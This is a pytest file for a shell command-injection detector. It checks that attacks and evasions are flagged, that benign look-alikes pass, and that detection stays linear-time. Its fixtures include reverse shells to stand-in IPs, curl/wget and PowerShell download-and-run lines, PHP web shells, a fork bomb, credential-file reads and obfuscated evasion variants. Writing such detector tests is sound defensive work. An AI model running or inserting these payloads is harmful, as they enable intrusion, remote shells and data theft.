"""The command-injection detector: shell structure decides, not payload lists.

Attacks of each structure and evasion must be found, benign look-alikes (prose about
commands, CI steps, package scripts, user agents, markdown, SQL, ssh keys...) must
not, and adversarial runs must stay linear (asserted structurally, never by time).
All strings here are written for these tests.
"""

from __future__ import annotations

import re

import pytest

from protect_lambda.detectors import shell
from protect_lambda.engine import check_pattern
from protect_lambda.normalize import normalize

from .fuzz import rule_example_values, seeded_values

KINDS = {
    "command-after-separator", "substitution", "redirection", "evasion", "windows-command",
    "powershell", "shellshock", "code-exec", "command-line", "windows-batch", "mail-command",
}


def kinds(raw: str) -> set[str]:
    """The kinds the detector reports for a raw (not yet normalised) value."""
    text = normalize(raw)
    spans = shell.detect(text)
    for kind, start, end in spans:
        assert kind in KINDS
        assert 0 <= start < end <= len(text)
    return {kind for kind, _, _ in spans}


# --- attacks, by structure -----------------------------------------------------------

@pytest.mark.parametrize(
    ("raw", "kind"),
    [
        # a command after a separator, the value starting like a parameter
        ("10.0.0.7; cat /etc/hosts", "command-after-separator"),
        ("10.0.0.7 && whoami", "command-after-separator"),
        ("10.0.0.7 | id", "command-after-separator"),
        ("q;``id``", "command-after-separator"),  # double backticks after a separator: not markup
        ("q|id", "command-after-separator"),
        ("q;id;", "command-after-separator"),
        ("q || uname -a", "command-after-separator"),
        ("abc%0Aid", "command-after-separator"),  # encoded newline
        ("abc%0D%0Auname%20-a", "command-after-separator"),
        ("abc\\nid", "command-after-separator"),  # the two characters \n
        ("\"; ls -la /var", "command-after-separator"),  # closing the caller's quote
        ("'; nc 10.1.2.3 9001 -e /bin/sh; '", "command-after-separator"),
        ("b);/usr/bin/id", "command-after-separator"),
        ("name=bob;sleep 20", "command-after-separator"),
        (";env", "command-after-separator"),
        ("k=v&&ping -c 9 10.0.0.9", "command-after-separator"),
        ("img.png;$v cat notes.txt", "command-after-separator"),  # an unset variable vanishes
        ("p=/srv&&q=ls&&$q $p", "command-after-separator"),  # a variable as the command
        ("page; wget http://198.51.100.4/x -O /tmp/x", "command-after-separator"),
        ("x; curl attacker.example/$(hostname)", "command-after-separator"),
        ("x;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.9.8.7 1234 >/tmp/f",
         "command-after-separator"),
        ("1;.shell whoami", "command-after-separator"),  # sqlite3 dot-command
        # substitutions
        ("$(whoami)", "substitution"),
        ("`uname -a`", "substitution"),
        ("v1`id`v2", "substitution"),
        ("zz$(sleep 9)zz", "substitution"),
        ("<(cat /etc/hosts)", "substitution"),
        (">(curl http://198.51.100.4)", "substitution"),
        ("$((7*6))", "substitution"),
        # redirections
        ("a;bash -i >& /dev/tcp/198.51.100.4/4444 0>&1", "redirection"),
        ("& echo '<?php passthru($_GET[x]); ?>' > sh3ll.php", "redirection"),
        # windows
        ("& dir c:\\", "windows-command"),
        ("| type c:\\windows\\win.ini", "windows-command"),
        ("&& net user", "windows-command"),
        ("x & ipconfig /all", "windows-command"),
        ("| reg query hklm\\software\\microsoft", "windows-command"),
        ("cmd /c whoami", "command-line"),
        ("for /f \"tokens=1\" %%q in ('whoami') do echo %%q", "windows-batch"),
        ("& for %z in (1,2) do calc", "windows-batch"),
        ("if exist c:\\boot.ini type c:\\boot.ini", "windows-batch"),
        ("if \"%os%\"==\"windows_nt\" echo pwned", "windows-batch"),
        ("if /i not 3 gtr 2 echo yes", "windows-batch"),
        # powershell
        ("; powershell -enc SQBFAFgA", "powershell"),
        ("iex (new-object net.webclient).downloadstring('http://198.51.100.4/a')", "powershell"),
        ("invoke-webrequest http://198.51.100.4/a.ps1 -outfile a.ps1", "powershell"),
        ("<a probe=\"invoke-webrequest http://198.51.100.4/a.ps1\"/>", "powershell"),
        # shellshock, fork bombs
        ("() { :; }; /bin/cat /etc/hosts", "shellshock"),
        ("() {", "shellshock"),
        ("bomb(){ bomb|bomb& };bomb", "shellshock"),
        # code handing a string to a shell
        ("system('id');", "code-exec"),
        ("<?php passthru($_GET['c']); ?>", "code-exec"),
        ("exec('sleep 9')", "code-exec"),
        ("eval('whoami')", "code-exec"),
        ("obj.exec(\"ls -la /\")", "code-exec"),
        ("%x(ls -la /)", "code-exec"),
        ("<!--#exec cmd=\"ls\" -->", "code-exec"),
        ("{${sleep(9)}}", "code-exec"),
        # the whole value is a command line
        ("uname", "command-line"),
        ("ipconfig /all", "command-line"),
        ("cat /etc/hosts", "command-line"),
        ("ls -l /var/tmp", "command-line"),
        ("ping -c 9 10.0.0.9", "command-line"),
        ("sleep 20", "command-line"),
        ("perl -e 'print 1'", "command-line"),
        ("bash -c 'id'", "command-line"),
        ("curl example.org", "command-line"),
        ("which nc", "command-line"),
        ("alias ls=rm", "command-line"),
        # a pipe still pipes where a table or an expression is not what the value is
        ("| id |", "command-after-separator"),
        ("1|id|x", "command-after-separator"),
        ("| sleep 5 | x |", "command-after-separator"),
        ("| /bin/id | x |", "command-after-separator"),
        ("ls -la | id | nc", "command-line"),
        # an operand or a table cell only when the recon output goes nowhere (the review's bypasses)
        ("a | env | aws s3 cp - s3://evil/x", "command-after-separator"),
        ("x | id | mail a@evil.example", "command-after-separator"),
        ("x | env | gzip", "command-after-separator"),
        ("|reboot|x|", "command-after-separator"),
        ("|whoami||", "command-after-separator"),
        ("sudo uname -r", "command-line"),
        ("nohup whoami | sh", "command-line"),
        ("printf aWQ=|base64 -d|sh", "command-line"),
        ("~+", "command-line"),
        ("!-2", "command-line"),
        # mail protocols after CR LF
        ("\r\nrcpt to: <root@localhost>", "mail-command"),
        ("x\r\nhelo attacker.example\r\n", "mail-command"),
        ("\r\nb07 select inbox", "mail-command"),
        # a separator glued to the next word is shell even after a sentence
        ("this is the best product that we have ever bought, it was great a;id;", "command-after-separator"),
        ("thanks for the quick reply, it works now|id", "command-after-separator"),
        # a pipe or && is no sentence's punctuation: a probe after one counts after prose too
        ("this is the best product that we have ever bought, it was great | id", "command-after-separator"),
        ("thanks for the quick reply, it works now && sleep 5", "command-after-separator"),
        # after ; or & in prose: a command with only command-like arguments, ending the value
        ("this is the best product that we have ever bought, it was great; sleep 10", "command-after-separator"),
        ("this is the best product that we have ever bought, it was great & ls -l /tmp", "command-after-separator"),
    ],
)
def test_attack_structures(raw: str, kind: str) -> None:
    assert kind in kinds(raw)


@pytest.mark.parametrize(
    "raw",
    [
        ";w'h'o'am'i",  # quotes inside a word
        ";w\"ho\"ami",
        ";w\\hoami",  # backslash escapes
        "\\ls",
        ";c$@at /etc/hosts",  # $@ and empty variables
        "u$1name -a",
        "q;c$()at /etc/hosts",  # empty substitutions
        "ping`` 10.0.0.9",
        ";cat${IFS}/etc/passwd",  # $IFS as a blank
        ";cat$IFS$9/etc/passwd",
        ";/???/c?t /e??/passwd",  # globs
        "/bi[n]/s[h]",
        "/etc/pa[s]swd",
        "{cat,/etc/passwd}",  # brace expansion
        "{,ifconfig}",
        ";{ls,-la,/}",
        "/usr/bin/id",  # absolute paths
        "\n/bin/sh",
        "'i'fconfig",
        "\"w\"get evil.example",
        "x;${PATH:0:1}bin${PATH:0:1}sh",  # parameter expansion
        "%60id%60",  # URL-encoded backticks
        "q%3Bid",  # URL-encoded separator
        "&#x3b;id",  # HTML-encoded separator
        "\\u0060id\\u0060",  # JS-escaped backticks
        "x;\\033[2Awget http://198.51.100.4/x",  # a terminal escape before the command
    ],
)
def test_evasions_are_seen_through(raw: str) -> None:
    assert kinds(raw), raw


def test_spans_point_at_the_command() -> None:
    text = "127.0.0.1; cat /etc/passwd"
    [(kind, start, end)] = shell.detect(text)
    assert (kind, text[start:end]) == ("command-after-separator", "cat /etc/passwd")
    [(kind, start, end)] = shell.detect("x|id")
    assert (kind, start, end) == ("command-after-separator", 2, 4)


def test_lexer_sees_shell_words() -> None:
    words = [w.text for w in shell.lex("w'h'o$@ami;c\\at${ifs}/e??/pa[s]swd") if
             isinstance(w, shell.Word)]
    assert words == ["whoami", "cat", "/e??/pa[s]swd"]
    braces = [w.text for w in shell.lex("{l,-lh}s") if isinstance(w, shell.Word)]
    assert braces == ["ls", "-lhs"]


# --- benign look-alikes ------------------------------------------------------------

BENIGN = [
    # prose and UI strings that mention commands
    "Alias nisi nihil atque. Alias est dolore aperiam atque ea laborum.",  # a word repeated, no alias x=cmd
    "*key* specifies a function of one argument that is used to extract a comparison key",  # emphasis, no glob
    "**Do not enable debug mode when deploying in production.**",  # an emphasised phrase
    "| id | name | date |\n|----|------|------|\n| 1 | bob | today |",  # a markdown table's columns
    "then `isinstance(None, TYPES | set | float)` will raise a `TypeError`",  # a union of types
    "run `npm test` && deploy",
    "echo is a command",
    "sudo make me a sandwich",
    "Use exec() or eval()",
    "1. blixen. 2. comet. 3. vixen.",
    "Type `whoami` to see who you are.",
    "The `ls` command lists files; `cat` prints them.",
    "wget and curl are download tools",
    "I'd like to order a pizza",
    "Tom & Jerry | Terms & Conditions",
    "Find & Replace | Go to line",
    "Copy | Paste | Cut",
    "Time to go; see you later",
    "a hero; more than a legend",
    "Date: %(date)s | Time: %(time)s",
    "Set up your account",
    "Please enter your id",
    "if defined by the user, the value wins",
    "Kill switch enabled; restart required",
    "date",
    "test",
    "wget",
    "~5 minutes",
    # CI workflow step names
    "run git diff --exit-code || bash -c \\",
    "Run echo \"dir=$(yarn cache dir)\" >> $GITHUB_OUTPUT",
    "Run docker build -t app:$(git rev-parse --short HEAD) .",
    "Run if [ -f requirements.txt ]; then pip install -r requirements.txt; fi",
    "Run rm -rf ~/.cache && mkdir -p /tmp/build",
    "Run sudo apt-get update && sudo apt-get install -y libpq-dev",
    "Run make test || (cat test.log; exit 1)",
    "Set up job",
    # package scripts and install commands
    "echo \"error: no test specified\" && exit 1",
    "rm -rf dist && tsc",
    "cp -r src dist",
    "npm run build && npm test",
    "npm install @scope/pkg@1.0.0",
    "sh ./scripts/build.sh",
    "git+https://github.com/example/repo.git",
    # keys, user agents, URLs, headers
    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC+abc/def+ghi user@laptop",
    "Mozilla/5.0 (Windows Phone 8.1; ARM; Trident/7.0; Touch; rv:11.0; IEMobile/11.0) like Gecko",
    "Mozilla/5.0 (Linux; Android 6.0; dash g build/mra58k) AppleWebKit/537.36",
    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; WOW64; Trident/6.0; Touch)",
    "Mozilla/5.0 (compatible; uptime/1.0; http://uptime.example)",
    "cc metadata scraper http://wiki.example.org/scraper",
    "curl/8.4.0",
    "https://example.com/search?q=cat&sort=date&dir=asc",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "session=abc123; Path=/; Secure; HttpOnly",
    "order[filters][date_add][from]",
    "a[constructor][prototype]",
    # markdown, code, SQL, data
    "```\nnpm install --save my-package\n```",
    "## Install\n\n```bash\npip install foo\n```",
    "const cp = require('child_process');\ncp.exec('ls', cb);",
    "$(document).ready(function() { $('#x').show(); });",
    "var url = `${base}/api/${id}`;",
    "if (a == b) { c(); }",
    "if x == 1: print(x)",
    "try { eval(code); } catch (e) {}",
    "SELECT `id`, `date` FROM `users` WHERE `type` = 'admin';",
    "{\n  id\n  name\n  email\n}",
    "{\"id\": 1, \"name\": \"x\"}",
    "myfunction(){ echo hello }",
    "<b>bold</b> & <i>italic</i> > plain",
    "price: $5; tax: $1",
    "red;$5 each",
    "we went to the office to renew them; id cards were checked at the door",  # a sentence's ;
    "it was a very long day at the fair for all of us; sleep 10 hours",  # an argument that is a word
    "we had the best time at the lake with the kids; sleep 10 and then home",  # the sentence goes on
    "after the game we drove out to the coast & sleep there",  # & as "and", a word after the command
    # a script quoted in prose: a shell or a build tool after || or | stays prose
    "the step will run git diff --exit-code || bash -c 'echo the tree changed' on each push",
    "to install it we fetched the script and piped it | sh as the readme says",
    "hello\r\ndata\r\nworld",
    "Steps:\r\n1 select the file\r\n2 copy it",
    # reStructuredText in changelogs and docs: roles and inline literals quote code
    "Fixed a crash in ``cat()`` when the ``id`` argument was ``''`` on Windows.",
    "Use the :option:`run --shell` flag, see :ref:`the guide <shell-guide>` for details.",
    "The :class:`.Reader` now accepts ``sh -c`` strings and :func:`exec` objects as before.",
    "* :lookup:`Date and time <year>` lookups chain with other lookups (such as :lookup:`exact`).",
    "Supports non-``pytz`` zones, such as Python 3.9+'s :mod:`zoneinfo` module and its backport.",
    # a code span's closing backtick before an apostrophe is no GNU-style quotation (`word')
    "typecheckers that assume :pep:`749` style typechecking even if the file states that it's a :pep:`563` file",
    "based on :class:`.Variant` to honor the type's rules caused the :class:`.Variant` type to be lost",
    # Sphinx domain roles (:py:attr:, :py:class:) like plain ones, links (<target>) included
    "now verifies a :py:attr:`hostname <ssl.SSLContext.check_hostname>` and :py:attr:`certificates`.",
    "attributes returned iterators instead of :py:class:`set` of objects (:ticket:`32107`).",
]


@pytest.mark.parametrize("raw", BENIGN)
def test_benign_lookalikes_are_clean(raw: str) -> None:
    assert shell.detect(normalize(raw)) == [], raw


def test_plain_values_skip_the_lexer(monkeypatch: pytest.MonkeyPatch) -> None:
    """Most values (words, prose without operators) cost a few ``in`` tests."""

    def boom(text: str) -> list[shell.Word | shell.Op]:
        raise AssertionError("lexed " + text)

    monkeypatch.setattr(shell, "lex", boom)
    for text in ("hello world", "1234abcd", "john.doe@example.com", "https://example.com/a/b",
                 "ihre kleine schwester", "express delivery", "ls-5017"):
        assert shell.detect(text) == []


# --- linear time -----------------------------------------------------------------------

def test_regexes_have_no_nested_quantifiers() -> None:
    regexes = [v for v in vars(shell).values() if isinstance(v, (re.Pattern, shell._Lazy))]
    assert len(regexes) >= 20
    for rx in regexes:
        assert check_pattern(rx.pattern) is None, rx.pattern
    # the glob translation builds patterns of single, bounded repeats too
    glob = shell._glob_regex("/u*r/b?n/c[a]t*")
    assert glob is not None and check_pattern(glob.pattern) is None


RUNS = [
    "'", '"', "\\", "$(", "`", ";", "; ", "|", "&&", "||", "&", "\n", "\\n", "${", "${ifs}",
    "{", "}", "{a,", "[", "?", "/???/", "(", ")", "() {", ":(){ :|", "if ", "for %a in (",
    "<", ">", "2>&1", "<(", "~", "!-1", "\r\n", "\r\na1 list ", "exec('", "system('",
    ".exec('ls", "%x(", "{${", "echo x > a.php ", "x;id", ";id ", "`id`", "$(id)", "w'h'o",
    "sudo ", "\\033[2a", "c:\\n", "iex(", "$((", "${a#", "/bin/c[a]t ", "{cat,/etc/passwd}",
    "``a ", ":a:`", ":a:`b``", "word ``x",
    "| a | b |\nx | id\n",  # table rows among pipelines: each command is looked up in the rows
    "x(a|", "(a|b", "/proc/$p", "/etc/{a,",  # alternations, whole-component variables, path braces
]


@pytest.mark.parametrize("unit", RUNS)
@pytest.mark.parametrize("size", [10_000, 100_000])
def test_adversarial_runs_finish(unit: str, size: int) -> None:
    text = (unit * (size // len(unit) + 1))[:size]
    spans = shell.detect(text)
    assert len(spans) <= shell.MAX_SPANS
    # structural linearity: every token consumes at least one character
    assert len(shell.lex(text)) <= len(text)


def test_table_rows_do_not_hide_the_pipelines_after_them() -> None:
    text = ("| a | b |\n" * 3000 + "x | id\n" * 3000)[:65536]
    assert shell._table_rows(text)[:1] == [(0, 9)]
    assert any(kind == "command-after-separator" for kind, _, _ in shell.detect(text))


def test_attack_at_the_end_of_a_long_run_is_found() -> None:
    text = "a" * 100_000 + ";cat /etc/passwd"
    assert "command-after-separator" in kinds(text)
    text = "; " * 50_000 + "x;id"
    assert shell.detect(text)


def test_glob_lookups_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    calls = []
    real = shell._glob_regex

    def counting(pattern: str) -> re.Pattern[str] | None:
        calls.append(pattern)
        return real(pattern)

    monkeypatch.setattr(shell, "_glob_regex", counting)
    text = " ".join(f"/b?{i}/c?t{i}" for i in range(5000))
    shell.detect(text)
    assert len(calls) <= shell.GLOB_SEARCHES


def test_the_glob_shortcuts_change_no_lookup(monkeypatch: pytest.MonkeyPatch) -> None:
    """A glob with a literal character no candidate holds skips the regex compile, and one without
    ``*`` is matched against the candidates of its length: on globs made from candidates
    (wildcards put in, characters swapped) and from traffic (URLs with ``?``, ``[bot]`` names),
    every lookup returns what compiling the glob and searching the whole list returns."""
    import random

    shell._glob_find("/b?n/c?t", True)  # builds the candidate lists
    rng = random.Random(7)
    names = shell._CANDIDATES[1].split("\n")
    paths = shell._CANDIDATES[0].split("\n")
    patterns = ["https://api.github.com/users/renovate[bot]/gists", "/login?a=", "kms:put*", "[15033]",
                "/???/c?t", "/e??/pa[s]swd", "c[!a]t", "wh?ami", "w*", "/u*r/b?n/*", "[a-c]at", "x[a--b]y"]
    for word in rng.sample(names, 60) + rng.sample(paths, 60):
        chars = list(word)
        for _ in range(rng.randint(1, 3)):
            at = rng.randrange(len(chars))
            chars[at] = rng.choice(["?", "*", "[" + chars[at] + "]", "[!x]", ":", "=", "@", chars[at].upper(), "é"])
        patterns.append("".join(chars))
        # fixed-length globs: every other character a ?, or a class, as evasions write them
        patterns.append("".join("?" if k % 2 else c for k, c in enumerate(word)))
        patterns.append("".join("[" + c + "x]" if k == len(word) // 2 else c for k, c in enumerate(word)))
        patterns.append("?" + word[1:] + "?")  # one longer than the word: another candidate, or none

    def by_regex(pattern: str, absolute: bool) -> str | None:
        rx = shell._glob_regex(pattern)
        m = rx.search(shell._CANDIDATES[0 if absolute else 1]) if rx is not None else None
        return m.group() if m else None

    checked = 0
    for pattern in patterns:
        for absolute in (True, False):
            if sum(c.isalnum() for c in pattern) < (1 if absolute else 2) or len(pattern) > 64:
                continue
            shell._GLOB_HITS.clear()
            shell._GLOB_BUDGET[0] = 1
            assert shell._glob_find(pattern, absolute) == by_regex(pattern, absolute), (pattern, absolute)
            checked += 1
    assert checked > 500
    # and the check does spare compiles: a URL holds ':' which no command or sensitive path does
    compiled: list[str] = []
    real = shell._glob_regex
    monkeypatch.setattr(shell, "_glob_regex", lambda p: compiled.append(p) or real(p))
    shell._GLOB_HITS.clear()
    shell._GLOB_BUDGET[0] = 1
    assert shell._glob_find("https://avatars.example.com/u/2?", True) is None
    assert compiled == []


def test_brace_expansion_is_bounded() -> None:
    words = [w for w in shell.lex("{" + "a," * 50_000 + "}") if isinstance(w, shell.Word)]
    assert len(words) == 1  # too big to expand: one literal word


def _vocabulary() -> tuple[list[str], list[str]]:
    words = sorted(shell.COMMANDS | shell.PREFIXES)
    return words, [*("x11 linux x86_64 mozilla/5.0 applewebkit/537.36 khtml, like gecko chrome/120.0 android "
                      "6.0 dash g build/mra58k cpu iphone os the a list of items: ls-5017 deploy.sh "
                      "/bin/sh /usr/bin/id /usr/local/bin/node python3 python3.12 cmd.exe powershell.exe "
                      "net.webclient iex .downloadstring frombase64string /dev/tcp/10.0.0.1/80 "
                      "invoke-webrequest start-process 127.0.0.1 example.com/a/b phpinfo() phpinfo ( ) "
                      "system() passthru() exec() eval() iex() %x() x.exe a.b()").split()]


def test_the_command_position_prefilter_never_hides_a_finding(monkeypatch: pytest.MonkeyPatch) -> None:
    """``_no_command_position`` lets a value skip the lexer: on every value it clears, the lexer
    finds nothing either (seeded random values of commands, prefixes, user-agent words, paths,
    PowerShell words and ``; | & ( )``, and every example of this module)."""
    commands, others = _vocabulary()
    seps = [" ", " ", " ", "; ", ";", "|", " | ", "&", " && ", "(", ")", " (", ") ", "+", "\t", " || ", "", "()"]
    values = [*BENIGN, *RUNS, *rule_example_values(), *seeded_values(commands, others, seps)]
    cleared = [v for v in map(normalize, values) if shell._no_command_position(v)]
    assert len(cleared) > 3000  # the prefilter does clear values (user agents, lists)
    monkeypatch.setattr(shell, "_no_command_position", lambda text: False)
    missed = [v for v in cleared if shell.detect(v)]
    assert missed == []


@pytest.mark.parametrize("raw", [
    "x phpinfo()", "name phpinfo ( )",  # code execution, not in command position
    "x ``;id``", "x ``$(id)``", "x ``|nc 10.0.0.1 4444 -e sh``",  # an RST literal's content is judged
    "x :a:`curl evil.example/s.sh|sh`", "see :doc:`sh -i >& /dev/tcp/10.0.0.1/80`",  # roles run too
    "x :py:func:`id;ls` y",  # domain roles too
    "q=`id` it's", "a `cat /etc/passwd` b's",  # a closing backtick before an apostrophe still closes
])
def test_markup_and_shortcuts_hide_no_attack(raw: str) -> None:
    assert shell.detect(normalize(raw)), raw


@pytest.mark.parametrize("raw", ["{,}", "a {,}", "echo {,,}", "x;{,}"])
def test_a_brace_group_of_empty_words_is_a_word(raw: str) -> None:
    """``{,}`` expands to no word: the lexer raised IndexError, the guard failed open."""
    assert shell.detect(normalize(raw)) == []


def test_an_empty_brace_group_does_not_hide_the_command_after_it() -> None:
    assert "command-after-separator" in kinds("x;{,};cat /etc/passwd")
